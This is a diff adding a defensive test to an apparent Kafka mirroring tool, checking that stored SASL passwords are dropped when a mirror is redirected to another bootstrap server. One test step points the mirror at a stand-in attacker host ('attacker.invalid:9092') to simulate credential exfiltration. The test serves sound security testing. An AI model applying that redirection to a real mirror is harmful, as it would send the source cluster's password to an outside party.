@@ -340,6 +340,39 @@ def test_secrets(kmirror_bin, cluster, source_cluster, proxy_factory, secret_key
     assert password not in bare.output()
 
 
+def test_secrets_stay_behind_when_the_source_moves(kmirror_bin, cluster, source_cluster, proxy_factory,
+                                                  secret_key_file):
+    """An alter that points a mirror at another bootstrap.servers (or security.protocol) drops its
+    stored secrets unless they are given again: whoever may alter a mirror could otherwise have
+    kmirrord send the source's password to a host of their choosing."""
+    proxy = mirror_proxy(proxy_factory, cluster, secret_key_file)
+    cli = Cli(kmirror_bin, proxy.bootstrap)
+    mirror = unique("moved")
+    props = os.path.join(cluster.base_dir, f"{mirror}.properties")
+    with open(props, "w") as f:
+        f.write("security.protocol=SASL_PLAINTEXT\nsasl.mechanism=PLAIN\nsasl.username=admin\n"
+                f"sasl.password=pw-{uuid.uuid4().hex}\n")
+    try:
+        cli.run("create", "--mirror", mirror, "--source-bootstrap", source_cluster.sasl_bootstrap, "--config-file", props)
+
+        def names():
+            doc, _ = cli.json("describe", "--mirror", mirror)
+            return {c["name"] for c in doc["mirrors"][0]["configs"]}
+        cli.run("alter", "--mirror", mirror, "--config", "sasl.username=admin")  # the same place: kept
+        assert "sasl.password" in names()
+        cli.run("alter", "--mirror", mirror, "--config", "bootstrap.servers=attacker.invalid:9092")
+        print("after the move:", sorted(names()))
+        assert "sasl.password" not in names()
+        proxy.wait_log(rf"mirror '{mirror}': sasl.password dropped: the alter changes bootstrap.servers")
+        # given again in the same alter: kept
+        cli.run("alter", "--mirror", mirror, "--config", f"bootstrap.servers={source_cluster.sasl_bootstrap}",
+                "--config-file", props)
+        assert "sasl.password" in names()
+    finally:
+        os.unlink(props)
+        cli.run("delete", "--mirror", mirror, expect=None)
+
+
 # ---------------------------------------------------------------------------------------------
 # stop --dry-run: the records at risk of a failover, with nothing stopped
 
